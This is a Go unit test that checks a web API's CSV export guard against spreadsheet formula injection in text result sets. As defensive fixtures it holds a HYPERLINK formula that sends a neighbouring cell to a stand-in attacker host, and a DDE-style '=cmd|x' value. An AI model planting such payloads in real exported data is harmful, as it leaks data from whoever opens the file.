package restapi

// From the second security review of the CSV formula guard (4370813),
// which this test failed on.

import (
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"github.com/golinkis/golinkis/orchestrator/restapi/restapitest"
)

// A text result set (a script's output) downloads as NAME.csv like a
// table's, and a spreadsheet opens it as CSV: each line's fields are
// cells. A line a job printed from a shared table's data - or another
// user's output an administrator exports - that begins with '=' is a
// formula on the downloader's machine, as a table's cell was before the
// fix; the guard skipped text results altogether.
func TestTextResultCSVIsNotAFormula(t *testing.T) {
	f := restapitest.NewJobs()
	h := newTestHandler(t, f)
	sub := submitShell(t, h)
	p := filepath.Join(t.TempDir(), "_0.jsonl")
	if err := f.AddResult(sub.ExecID, p, `{"type":"text","columns":[{"name":"line","type":"TEXT"}]}`+"\n"+
		`["=HYPERLINK(\"http://attacker.invalid/?\"&A2,\"open\")"]`+"\n"+`["secret-row"]`+"\n"); err != nil {
		t.Fatal(err)
	}
	r := httptest.NewRequest("GET", Prefix+"/filesystem/resultsetToExcel?outputFileType=csv&path="+p, nil)
	r.Header.Set(HeaderTokenUser, "alice")
	r.Header.Set(HeaderTokenCode, testUsers["alice"])
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	if w.Code != http.StatusOK {
		t.Fatalf("download: HTTP %d %s", w.Code, w.Body)
	}
	disp := w.Header().Get("Content-Disposition")
	for _, line := range strings.Split(strings.TrimSuffix(w.Body.String(), "\n"), "\n") {
		if line != "" && strings.ContainsRune("=+-@\t\r", rune(line[0])) {
			t.Errorf("the text result downloaded as %s holds the line %q, a formula when a spreadsheet opens it", disp, line)
		}
	}
	// The spreadsheet's cells begin at each separator and line break
	// too, and a quoted cell runs on over lines: the guard follows them,
	// and leaves plain numbers and text alone.
	for _, c := range []struct{ lines, want string }{
		{`["a,=1+1,-1.5,b"]`, "a,'=1+1,-1.5,b\n"},
		{`["a,\"=1+1\",c"]`, "a,\"'=1+1\",c\n"},
		// A quote opened on one line closes on the next, where a cell
		// begins after it.
		{`["a,\"x"]` + "\n" + `["y\"\"z\",=cmd|x,@y"]`, "a,\"x\ny\"\"z\",'=cmd|x,'@y\n"},
		{`["x\r=1+1"]`, "x\r'=1+1\n"},
		{`["log: level=info -v 3"]`, "log: level=info -v 3\n"},
	} {
		q := filepath.Join(t.TempDir(), "_0.jsonl")
		if err := f.AddResult(sub.ExecID, q, `{"type":"text","columns":[{"name":"line","type":"TEXT"}]}`+"\n"+c.lines+"\n"); err != nil {
			t.Fatal(err)
		}
		r := httptest.NewRequest("GET", Prefix+"/filesystem/resultsetToExcel?outputFileType=csv&path="+q, nil)
		r.Header.Set(HeaderTokenUser, "alice")
		r.Header.Set(HeaderTokenCode, testUsers["alice"])
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		if got := w.Body.String(); w.Code != http.StatusOK || got != c.want {
			t.Errorf("text %s as CSV: HTTP %d %q, want %q", c.lines, w.Code, got, c.want)
		}
	}
}
